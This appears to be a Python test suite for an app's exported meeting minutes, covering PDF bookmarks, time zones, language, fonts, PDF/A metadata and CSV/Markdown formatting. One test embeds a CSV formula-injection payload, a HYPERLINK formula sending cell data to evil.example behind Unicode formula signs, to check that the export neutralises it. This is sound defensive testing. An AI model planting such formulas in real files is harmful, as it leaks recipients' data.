"""Minutes a recipient can send without editing (issue 13): each test reads the real
PDF, CSV or Markdown back and fails on the fault it is named after."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import arabic_reshaper
import pikepdf
import pytest
from images import emblem_png, logo_png
from minutes_helpers import (
    destinations,
    font_problems,
    lines_by_position,
    page_texts,
    report_words,
    user_words,
    vocabularies,
)
from report_helpers import outline_titles, reader, squash, text_of

from facilitator.domain.errors import ValidationError
from facilitator.domain.voting import Method, format_score
from facilitator.reports.markdown import build_markdown
from facilitator.reports.pdf import pdf_bytes
from facilitator.reports.text import Words
from facilitator.services.demo import write_demo
from facilitator.services.exporting import export_csv
from facilitator.services.minutes import MinutesService
from facilitator.services.snapshot import Snapshot, build_snapshot
from facilitator.services.workshop import WorkshopService


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("demo") / "demo.workshop"
    with write_demo(path):
        pass
    return path


@pytest.fixture(scope="module")
def demo(demo_file: Path) -> Iterator[WorkshopService]:
    with WorkshopService.open(demo_file, read_only=True) as svc:
        yield svc


@pytest.fixture(scope="module")
def full(demo: WorkshopService) -> Snapshot:
    return build_snapshot(demo)


@pytest.fixture(scope="module")
def day1(demo: WorkshopService) -> Snapshot:
    return build_snapshot(demo, demo.days()[0].id)


# --- 1. bookmarks -----------------------------------------------------------------------


@pytest.mark.parametrize("scope", ["day1", "full"])
@pytest.mark.parametrize("lang", ["it", "en"])
def test_every_bookmark_opens_the_page_its_heading_is_on(request, scope, lang) -> None:
    data = pdf_bytes(request.getfixturevalue(scope), lang=lang, deterministic=True)
    pages = page_texts(data)
    entries = destinations(data)
    assert len(entries) >= 5
    targets = set()
    for title, page in entries:
        head = squash(title)[:40]
        on = [k for k, text in enumerate(pages) if head in text]
        assert on, f"{title!r} is printed on no page"
        # the heading is on the destination's page (a heading may also appear in the
        # contents or a cross-reference: the destination must be one of its pages)
        assert page in on, f"{title!r} opens page {page + 1}, is printed on {on}"
        targets.add(page)
    assert len(targets) > 2  # not every entry on one page


# --- 3. the venue's time zone -----------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]


def _report_under(tz: str, workshop: Path, out: Path, *extra: str) -> bytes:
    env = {k: v for k, v in os.environ.items() if k != "TZ"}
    env["TZ"] = tz
    subprocess.run(
        [
            sys.executable,
            str(ROOT / "main.py"),
            "report",
            str(workshop),
            *extra,
            "--deterministic",
            "-o",
            str(out),
        ],
        env=env,
        check=True,
        capture_output=True,
        timeout=120,
    )
    return out.read_bytes()


def test_minutes_are_byte_identical_under_utc_and_tokyo(demo_file: Path, tmp_path: Path) -> None:
    utc = _report_under("UTC", demo_file, tmp_path / "utc.pdf", "--day", "1")
    tokyo = _report_under("Asia/Tokyo", demo_file, tmp_path / "tokyo.pdf", "--day", "1")
    assert utc == tokyo
    text = squash(text_of(utc))
    # planned 09:00 at the venue, started five minutes late: both in Torino's time
    assert squash("09:00–09:30") in text and squash("09:05–09:35") in text
    assert squash("08:05–08:35") not in text  # what a UTC laptop printed before


def test_new_workshop_stores_the_machines_zone_and_the_demo_is_rome(
    demo: WorkshopService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert demo.workshop().time_zone == "Europe/Rome"
    monkeypatch.setenv("TZ", "Europe/Lisbon")
    with WorkshopService.create(tmp_path / "x.workshop", "X") as svc:
        assert svc.workshop().time_zone == "Europe/Lisbon"
        svc.update_workshop(time_zone="America/New_York")
        assert svc.workshop().time_zone == "America/New_York"
        with pytest.raises(ValidationError):
            svc.update_workshop(time_zone="Mars/Olympus")
        assert svc.workshop().time_zone == "America/New_York"


def test_csv_and_markdown_times_are_the_venues(
    demo_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    try:
        with WorkshopService.open(demo_file, read_only=True) as svc:
            snap = build_snapshot(svc, svc.days()[0].id)
        folder = tmp_path / "csv"
        export_csv(snap, folder, lang="en")
        agenda = (folder / "agenda.csv").read_text(encoding="utf-8-sig")
        notes = (folder / "notes.csv").read_text(encoding="utf-8-sig")
        markdown = build_markdown(snap, "en")
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    assert "2025-11-05T09:05:00+01:00" in agenda
    assert "+09:00" not in agenda + notes
    assert "09:05–09:35" in markdown


# --- 2. a day's minutes hold that day's notes only --------------------------------------


def _day_of(svc: WorkshopService) -> dict[int, int]:
    """note id -> day number, from the notes' items."""
    number = {d.id: d.number for d in svc.days()}
    item_day = {it.id: number[it.day_id] for d in svc.days() for it in svc.items(d.id)}
    return {n.id: item_day[n.agenda_item_id] for n in svc.notes() if n.agenda_item_id}


def test_day_minutes_hold_no_note_of_another_day_even_in_themes(demo, day1) -> None:
    day_of = _day_of(demo)
    text = squash(text_of(pdf_bytes(day1, deterministic=True)))
    others = [n.text for n in demo.notes() if day_of.get(n.id, 1) != 1]
    assert others
    leaked = [t for t in others if squash(t)[:60] in text]
    assert not leaked
    mine = [n.text for n in demo.notes() if day_of.get(n.id) == 1]
    assert all(squash(t)[:60] in text for t in mine)
    # the themes that also hold other days' notes say so
    assert squash("Un’altra nota di questo tema in un’altra giornata") in text
    assert "altregiornate" in text


def test_theme_notes_of_another_session_are_marked(demo, day1) -> None:
    text = squash(text_of(pdf_bytes(day1, lang="en", deterministic=True)))
    assert squash("said in another session: “Tipi di collaborazione") in text


def test_a_note_without_item_is_in_its_days_minutes(demo_file: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.workshop"
    copy.write_bytes(demo_file.read_bytes())
    with WorkshopService.open(copy) as svc:
        # 10:30 in Torino on day 1 is 09:30 UTC
        when = dt.datetime(2025, 11, 5, 9, 30, tzinfo=dt.UTC)
        svc.add_note("Nota fuori programma del primo giorno", created_at=when)
        d1, d2, _ = svc.days()
        one = squash(text_of(pdf_bytes(build_snapshot(svc, d1.id), deterministic=True)))
        two = squash(text_of(pdf_bytes(build_snapshot(svc, d2.id), deterministic=True)))
    assert squash("Nota fuori programma del primo giorno") in one
    assert squash("Nota fuori programma del primo giorno") not in two


# --- issue 11: a 50 MB note -------------------------------------------------------------


def test_50mb_note_written_by_another_program_prints_capped_and_exports_whole(
    svc: WorkshopService, tmp_path: Path
) -> None:
    item = svc.add_item(svc.days()[0].id, "Apertura", planned_start=dt.time(9, 0))
    note = svc.add_note("placeholder", agenda_item_id=item)
    big = ("parola " * 7_500_000)[:50_000_000]
    with sqlite3.connect(svc.path) as conn:  # another program, as the attack did
        conn.execute("UPDATE notes SET text = ? WHERE id = ?", (big, note.id))
    snap = build_snapshot(svc, svc.days()[0].id)
    data = pdf_bytes(snap, lang="en", deterministic=True)
    text = text_of(data)
    assert "more characters: see the CSV export)" in text
    shown = re.search(r"\(([\d,]+)morecharacters", squash(text))
    assert shown is not None
    assert 49_890_000 < int(shown.group(1).replace(",", "")) < 49_910_000
    assert len(reader(data).pages) < 60
    files = export_csv(snap, tmp_path / "csv", lang="en")
    assert big in files["notes"].read_text(encoding="utf-8-sig")
    assert big in build_markdown(snap, "en").replace("  \n", "\n")


# --- 4. every word in the report's language ---------------------------------------------


@pytest.fixture(scope="module")
def demo_en_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("demo_en") / "demo_en.workshop"
    with write_demo(path, "en"):
        pass
    return path


@pytest.mark.parametrize(("workshop", "report_lang"), [("demo_file", "en"), ("demo_en_file", "it")])
def test_report_has_no_word_of_the_other_language_but_the_users(
    request, workshop, report_lang, tmp_path
) -> None:
    path = request.getfixturevalue(workshop)
    italian, english = vocabularies()
    other = italian if report_lang == "en" else english
    with WorkshopService.open(path, read_only=True) as svc:
        snap = build_snapshot(svc)
    pdf = report_words(text_of(pdf_bytes(snap, lang=report_lang, deterministic=True)))
    markdown = report_words(build_markdown(snap, report_lang))
    folder = tmp_path / "csv"
    export_csv(snap, folder, lang=report_lang)
    csv_words = report_words(
        " ".join(f.read_text(encoding="utf-8-sig") for f in sorted(folder.glob("*.csv")))
    )
    mine = user_words(path)
    assert not sorted((pdf & other) - mine)
    assert not sorted((markdown & other) - mine)
    assert not sorted((csv_words & other) - mine)


# --- 5. numbers that agree --------------------------------------------------------------


def test_scores_round_half_up_and_each_row_adds_up(full: Snapshot) -> None:
    assert format_score(Fraction(21, 8), Method.SCORE) == "2.63"  # 2.625
    assert format_score(Fraction(23, 8), Method.SCORE) == "2.88"  # 2.875
    assert format_score(Fraction(-21, 8), Method.SCORE) == "-2.63"
    scoring = next(p for p in full.polls if p.method == "score")
    text = squash(text_of(pdf_bytes(full, deterministic=True)))
    for row in scoring.rows:
        parts = [Decimal(x) for x in row.extras]
        assert sum(parts) == Decimal(row.score_text), row  # the demo's weights are 1
        for value in (*row.extras, row.score_text):
            assert value.replace(".", ",") in text
    assert "2,62" not in text and "11,12" not in text


def test_decisions_have_one_meaning_in_every_count(full: Snapshot) -> None:
    decided = full.decisions()
    in_category = [n for n in full.all_notes() if n.category == "Decisione"]
    flagged_elsewhere = [n for n in decided if n.category != "Decisione"]
    assert in_category and flagged_elsewhere
    assert set(decided) == set(in_category) | set(flagged_elsewhere)
    text = squash(text_of(pdf_bytes(full, deterministic=True)))
    assert squash(f"Decisioni ({len(decided)})") in text  # page 1
    assert squash(f"Decisioni{len(decided)}") in text  # key figures in the annex
    assert squash("le stesse della sezione Decisioni") in text


def test_a_category_named_decisions_makes_a_decisions_section(svc: WorkshopService) -> None:
    cat = next(c for c in svc.categories() if c.name == "Decisione")
    item = svc.add_item(svc.days()[0].id, "Plenaria", planned_start=dt.time(9, 0))
    for k in range(5):
        svc.add_note(f"Si decide il punto {k}", category_id=cat.id, agenda_item_id=item)
    snap = build_snapshot(svc)
    assert len(snap.decisions()) == 5
    assert ("Decisioni", 0) in [(t, lvl) for t, lvl in outline_titles(pdf_bytes(snap))]


def test_a_speaker_absent_that_day_is_flagged(svc: WorkshopService) -> None:
    d1 = svc.days()[0]
    here = svc.add_participant("Presente Puntuale")
    away = svc.add_participant("Assente Giustificato")
    svc.set_present(d1.id, here, True)
    item = svc.add_item(d1.id, "Plenaria", planned_start=dt.time(9, 0))
    svc.add_note("Intervento di chi c'era", agenda_item_id=item, speaker="Presente Puntuale")
    svc.add_note("Intervento di chi non c'era", agenda_item_id=item, speaker="Assente Giustificato")
    text = text_of(pdf_bytes(build_snapshot(svc, d1.id), deterministic=True))
    flag = "non risulta tra i presenti della giornata"
    assert squash(f"Assente Giustificato ({flag})") in squash(text)
    assert squash(f"Presente Puntuale ({flag})") not in squash(text)
    assert away


# --- page 1 and the printed contents ----------------------------------------------------


def test_page_one_is_the_conclusions_not_the_counts(full: Snapshot) -> None:
    data = pdf_bytes(full, deterministic=True)
    pages = page_texts(data)
    contents = next(k for k, t in enumerate(pages) if t.startswith(squash("Indice")))
    first = "".join(pages[:contents])  # page 1, and its overflow before the contents
    assert squash("Conclusioni principali") in pages[0]
    for note in full.decisions():
        assert squash(note.text)[:50] in first
    for poll in full.polls:
        assert squash(poll.title)[:40] in first
    assert squash("In cifre") not in first  # the counts are in the annex
    assert ("Allegato: dati in cifre", 0) in outline_titles(data)


@pytest.mark.parametrize("scope", ["day1", "full"])
def test_printed_contents_match_the_bookmarks(request, scope) -> None:
    data = pdf_bytes(request.getfixturevalue(scope), lang="en", deterministic=True)
    entries = destinations(data)
    toc_pages = [k for k, t in enumerate(page_texts(data)) if squash("Contents") in t[:120]]
    assert toc_pages
    pdf = reader(data)
    lines = [line for k in toc_pages for line in lines_by_position(pdf, k)]
    printed = {}
    for line in lines:
        match = re.match(r"^(.*?)[\s.]*?(\d+)$", line.strip())
        if match and match.group(1).strip(" ."):
            printed[squash(match.group(1)).rstrip(".")[:30]] = int(match.group(2))
    for title, page in entries:
        key = squash(title)[:30]
        found = [v for k, v in printed.items() if key.startswith(k[:25]) or k.startswith(key[:25])]
        assert found, f"{title!r} is not in the printed contents"
        assert page + 1 in found, f"{title!r}: contents say {found}, the bookmark opens {page + 1}"


# --- 6. typography ----------------------------------------------------------------------


def _source_words(snap: Snapshot, words: Words) -> set[str]:
    texts = [snap.workshop.title, words("full_report")]
    for d in snap.days:
        texts.append(words.day_label(d.number, d.date, d.title))
        texts.extend(f"{i.number}. {i.title}" for i in d.items)
    texts += [words(k) for k in ("decisions", "actions", "polls", "attendance", "annex_figures")]
    return {w for t in texts for w in t.split()}


@pytest.mark.parametrize("lang", ["it", "en"])
def test_running_headers_end_on_whole_words_and_name_the_session(full, lang) -> None:
    data = pdf_bytes(full, lang=lang, deterministic=True)
    pdf = reader(data)
    known = _source_words(full, Words(lang))
    sessions = 0
    for k in range(1, len(pdf.pages)):
        header = lines_by_position(pdf, k)[0]
        for word in header.split():
            if word.endswith("…"):
                cut = word[:-1]
                assert any(w.rstrip(",.;:–") == cut.rstrip(",.;:–") for w in known), (
                    f"page {k + 1}: header {header!r} is cut inside {word!r}"
                )
        if " · " in header and any(
            f"{i.number}. {i.title}"[:12] in header for d in full.days for i in d.items
        ):
            sessions += 1
    assert sessions >= 4  # pages inside a session say which one in the header


def test_break_items_with_nothing_said_are_not_sections(day1) -> None:
    data = pdf_bytes(day1, deterministic=True)
    titles = [t for t, _ in outline_titles(data)]
    assert not any("Pausa caffè" in t for t in titles)
    assert "Pausacaffè" in squash(text_of(data))  # still in the day's agenda table


def test_chart_labels_are_whole_and_the_value_axis_has_a_title(full) -> None:
    data = pdf_bytes(full, deterministic=True)
    pages = page_texts(data)
    scoring = next(p for p in full.polls if p.method == "score")
    page = next(t for t in pages if squash(f"2. {scoring.title}Metodo") in t)
    for row in scoring.rows:
        assert page.count(squash(row.label)) == 2, row.label  # table and chart, uncut
    assert squash("Punteggio totale (somma pesata delle medie)") in page


def test_italian_dates_say_primo() -> None:
    it = Words("it")
    assert it.date(dt.date(2026, 12, 1)) == "1° dicembre 2026"
    assert it.date_range(dt.date(2026, 12, 1), dt.date(2026, 12, 3)) == "1°–3 dicembre 2026"
    assert it.date(dt.date(2026, 12, 2), weekday=True) == "mercoledì 2 dicembre 2026"
    assert Words("en").date(dt.date(2026, 12, 1)) == "1 December 2026"


def test_the_agenda_table_never_leaves_a_row_alone(svc: WorkshopService) -> None:
    d1 = svc.days()[0]
    titles = [f"Sessione numero {k}" for k in range(1, 7)]
    for k, title in enumerate(titles):
        svc.add_item(d1.id, title, planned_start=dt.time(9 + k, 0))
    people: list[int] = []
    for n in range(70):
        pid = svc.add_participant(f"Persona {n:02d}", f"Ente {n:02d}")
        svc.set_present(d1.id, pid, True)
        people.append(pid)
        if n < 18:
            continue
        pages = page_texts(pdf_bytes(build_snapshot(svc, d1.id), deterministic=True))
        where = [k for k, t in enumerate(pages) if squash("Programma#PrevistoEffettivo") in t]
        assert where, n
        agenda_page = pages[where[0]]
        assert all(squash(t) in agenda_page for t in titles), (
            f"with {n + 1} participants the agenda table splits across pages"
        )


# --- 7. exports: one rule ---------------------------------------------------------------


def _csv(folder: Path, stem: str, delimiter: str) -> list[list[str]]:
    with (folder / f"{stem}.csv").open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def test_csv_dates_times_decimals_and_values_follow_one_rule(full: Snapshot, tmp_path) -> None:
    it_dir, en_dir = tmp_path / "it", tmp_path / "en"
    export_csv(full, it_dir, lang="it")
    export_csv(full, en_dir, lang="en")
    for folder, sep in ((it_dir, ";"), (en_dir, ",")):
        agenda = _csv(folder, "agenda", sep)
        first = agenda[1]
        # planned and actual: ISO instants in Torino's zone, side by side
        assert first[4] == "2025-11-05T09:00:00+01:00" and first[7] == "2025-11-05T09:05:00+01:00"
        attendance = _csv(folder, "attendance", sep)
        assert attendance[1][1] == "2025-11-05"
    results = _csv(it_dir, "poll_results", ";")
    scores = [row[6] for row in results[1:]]
    assert "11,63" in scores and not any(re.fullmatch(r"\d+\.\d+", s) for s in scores)
    assert "11.63" in [row[6] for row in _csv(en_dir, "poll_results", ",")[1:]]
    modes_it = {row[2] for row in _csv(it_dir, "ballots", ";")[1:]}
    modes_en = {row[2] for row in _csv(en_dir, "ballots", ",")[1:]}
    assert modes_it <= {"chiosco", "votante", "conteggio su carta"} and modes_it
    assert modes_en <= {"kiosk", "voter", "paper tally"} and modes_en


def test_markdown_decimals_agree_and_ampersands_print_as_themselves(svc, full) -> None:
    text = build_markdown(full, "it")
    assert "2,63" in text and "11,63" in text
    assert not re.search(r"\b\d+\.\d\d\b", text)  # no point decimals in Italian
    item = svc.add_item(svc.days()[0].id, "Ricerca & sviluppo", planned_start=dt.time(9, 0))
    svc.add_note("Comune & Regione; &amp; resta scritto così", agenda_item_id=item)
    own = build_markdown(build_snapshot(svc), "it")
    assert "Ricerca & sviluppo" in own and "Comune & Regione" in own
    assert "\\&amp;" in own  # an entity typed by the user stays literal when rendered


# --- issue 11: formulas hidden behind Unicode folding -----------------------------------


@pytest.mark.parametrize("lead", ["＝", "﹦", "＋", "﹢", "－", "﹣", "＠", "﹫", "₌", "⁼"])
def test_fullwidth_formula_sign_at_cell_start_is_neutralised(svc, tmp_path, lead) -> None:
    item = svc.add_item(svc.days()[0].id, "Apertura", planned_start=dt.time(9, 0))
    payload = f'{lead}HYPERLINK("http://evil.example/?"&A1;"clic")'
    svc.add_note(payload, agenda_item_id=item, speaker=f"{lead}1+1")
    files = export_csv(build_snapshot(svc), tmp_path / "csv", lang="en")
    rows = _csv(tmp_path / "csv", "notes", ",")
    assert rows[1][8] == "'" + payload
    assert rows[1][4] == f"'{lead}1+1"
    assert files


# --- 8. fonts -----------------------------------------------------------------------------


@pytest.mark.parametrize("scope", ["day1", "full"])
def test_every_font_in_the_minutes_is_embedded(request, scope) -> None:
    data = pdf_bytes(request.getfixturevalue(scope), deterministic=True)
    pdf = reader(data)
    assert not font_problems(pdf)
    names = set()
    for page in pdf.pages:
        names |= {str(f.get_object()["/BaseFont"]) for f in page["/Resources"]["/Font"].values()}
    assert names and all("DejaVu" in n for n in names), names


def test_scripts_the_font_lacks_print_a_visible_replacement_and_arabic_prints(svc) -> None:
    item = svc.add_item(svc.days()[0].id, "Apertura", planned_start=dt.time(9, 0))
    arabic = "مرحبا بكم في تورينو"
    svc.add_note(f"Arabo: {arabic} · emoji: 🙂 · cinese: 你好 · fine", agenda_item_id=item)
    data = pdf_bytes(build_snapshot(svc, svc.days()[0].id), deterministic=True)
    line = next(x for x in text_of(data).splitlines() if "Arabo:" in x)
    assert "fine" in line  # nothing vanishes silently
    assert line.count("\ufffd") == 3  # the emoji and the two Chinese characters
    # Arabic: joined letter forms (presentation forms), every word, no replacement
    shaped = arabic_reshaper.reshape(arabic)
    printed = line.split("Arabo:")[1].split("·")[0]
    assert "\ufffd" not in printed
    for word in shaped.split():
        assert word in printed or word[::-1] in printed, word
    assert not any("\u0600" <= ch <= "\u06ff" for ch in printed)  # none left unjoined


# --- the formal frame, session summaries, visibility ------------------------------------


def test_session_summary_is_stored_and_printed_first_in_its_session(svc, tmp_path) -> None:
    d1 = svc.days()[0]
    item = svc.add_item(d1.id, "Tavola rotonda", planned_start=dt.time(9, 0))
    svc.add_note("Prima nota della sessione", agenda_item_id=item)
    svc.update_item(item, summary="Sintesi: si parte dai bisogni dei quartieri.")
    svc.close()
    with WorkshopService.open(svc.path) as again:  # in the file, not in memory
        assert again.item(item).summary == "Sintesi: si parte dai bisogni dei quartieri."
        text = squash(text_of(pdf_bytes(build_snapshot(again, d1.id), deterministic=True)))
    start = text.index(squash("1. Tavola rotonda"), text.index(squash("Programma")) + 40)
    summary = text.index(squash("Sintesi: si parte dai bisogni"), start)
    note = text.index(squash("Prima nota della sessione"), start)
    assert start < summary < note
    assert squash("Sintesi della sessione") in text


def test_the_formal_frame_is_printed(demo: WorkshopService, full: Snapshot) -> None:
    data = pdf_bytes(full, deterministic=True)
    pages = page_texts(data)
    assert squash("StatoBozza·v.0.1") in pages[0]
    assert squash("Redatto da") in pages[0] and squash("Chiara Dell'Acqua") in pages[0]
    assert squash("Prossimo incontro Online, 15 gennaio 2026") in pages[0]
    assert all(squash("Bozza · v. 0.1") in p for p in pages)  # every footer says so
    text = "".join(pages)
    for words in ("Approvazione e distribuzione", "Nome e ruolo", "Firma",
                  "Lista di distribuzione", "Commissione europea, DG EMPL"):  # fmt: skip
        assert squash(words) in text
    # participants with their country; absentees and apologies per day
    assert squash("Eleni Papadopoulou (Grecia)") in text
    day3 = next(p for p in pages if squash("Giornata 3 – venerdì 7 novembre 2025 – Tr") in p[:90])
    assert re.search(r"Assenti\(1\):[^,]*\(giustificato\)", day3)


def test_logo_and_emblem_are_stored_in_the_file_and_printed(svc, tmp_path) -> None:
    frame = MinutesService(svc)
    with pytest.raises(ValidationError):
        frame.set_image("emblem", b"GIF89a not a png")
    assert frame.image("emblem") is None
    frame.set_image("logo", logo_png())
    frame.set_image("emblem", emblem_png())
    svc.close()
    with WorkshopService.open(svc.path) as again:
        snap = build_snapshot(again)
    assert snap.logo == logo_png() and snap.emblem == emblem_png()
    data = pdf_bytes(snap, deterministic=True)
    first = reader(data).pages[0]
    images = [
        x
        for x in first["/Resources"]["/XObject"].values()
        if x.get_object()["/Subtype"] == "/Image"
    ]
    assert len(images) == 2
    assert squash("Cofinanziato dall’Unione europea") in page_texts(data)[0]
    english = pdf_bytes(snap, lang="en", deterministic=True)
    assert squash("Co-funded by the European Union") in page_texts(english)[0]


# --- archiving: PDF/A-2u, XMP, clickable addresses ---------------------------------------


@pytest.mark.parametrize("lang", ["it", "en"])
def test_minutes_meet_the_pdfa_2u_requirements_we_can_read_back(full, lang) -> None:
    data = pdf_bytes(full, lang=lang, deterministic=True)
    assert not font_problems(reader(data))
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert not pdf.is_encrypted and len(pdf.trailer.ID) == 2
        meta = pdf.open_metadata()
        assert meta["pdfaid:part"] == "2" and meta["pdfaid:conformance"] == "U"
        assert meta["dc:title"] == str(pdf.docinfo.Title)
        assert meta["dc:creator"] == [str(pdf.docinfo.Author)]
        assert str(pdf.Root.Lang) == ("it-IT" if lang == "it" else "en-GB")
        (intent,) = pdf.Root.OutputIntents
        assert intent.S == "/GTS_PDFA1" and int(intent.DestOutputProfile.N) == 3
        assert intent.DestOutputProfile.read_bytes()[36:40] == b"acsp"  # an ICC profile
        annotations = [a for page in pdf.pages for a in page.get("/Annots", [])]
        assert annotations  # the contents' links
        assert all(int(a.F) & 4 for a in annotations)
        assert "/JavaScript" not in pdf.Root.get("/Names", {})


def test_web_addresses_in_notes_are_clickable(svc) -> None:
    item = svc.add_item(svc.days()[0].id, "Apertura", planned_start=dt.time(9, 0))
    svc.add_note(
        "Materiali: https://example.org/fse?a=1&b=2, poi www.comune.torino.it.", agenda_item_id=item
    )
    data = pdf_bytes(build_snapshot(svc, svc.days()[0].id), deterministic=True)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        uris = {
            str(a.A.URI)
            for page in pdf.pages
            for a in page.get("/Annots", [])
            if "/A" in a and "/URI" in a.A
        }
    assert uris == {"https://example.org/fse?a=1&b=2", "https://www.comune.torino.it"}
    assert "https://example.org/fse?a=1&b=2, poi" in text_of(data).replace("\n", " ")


# --- scale ----------------------------------------------------------------------------------


def test_many_uncategorised_notes_and_decisions_print_compactly(svc) -> None:
    d1 = svc.days()[0]
    item = svc.add_item(d1.id, "Plenaria lunga", planned_start=dt.time(9, 0))
    decision = next(c for c in svc.categories() if c.name == "Decisione")
    for k in range(120):
        svc.add_note(
            f"Intervento senza categoria numero {k:03d} sul tema dei servizi.", agenda_item_id=item
        )
    for k in range(40):
        svc.add_note(f"Si decide la misura {k:02d}.", agenda_item_id=item, category_id=decision.id)
    snap = build_snapshot(svc)
    data = pdf_bytes(snap, deterministic=True)
    text = squash(text_of(data))
    for k in (0, 59, 119):
        assert squash(f"Intervento senza categoria numero {k:03d}") in text
    assert squash("Decisioni (40)") in text and squash("40.Si decide la misura 39.") in text
    # one row per note in a dense table: well under the ~1 page per 14 notes of paragraphs
    assert len(reader(data).pages) <= 12


def test_a_note_of_900_lines_splits_across_pages_in_a_dense_list(svc) -> None:
    item = svc.add_item(svc.days()[0].id, "Plenaria", planned_start=dt.time(9, 0))
    for k in range(8):  # eight notes without category: dense lines
        svc.add_note("riga\n" * 900 + f"fine della nota {k}", agenda_item_id=item)
    text = squash(text_of(pdf_bytes(build_snapshot(svc), deterministic=True)))
    assert all(squash(f"fine della nota {k}") in text for k in range(8))


def test_markdown_carries_the_frame_summaries_and_absentees(full) -> None:
    text = build_markdown(full, "it")
    for words in ("**Stato:** Bozza · v. 0.1", "**Prossimo incontro:** Online", "**Sintesi della sessione:**",
                  "(giustificato)", "## Lista di distribuzione", "Commissione europea, DG EMPL"):  # fmt: skip
        assert words in text
    assert re.search(r"\*\*Assenti \(1\):\*\* [^\n]*\(giustificato\)", text)
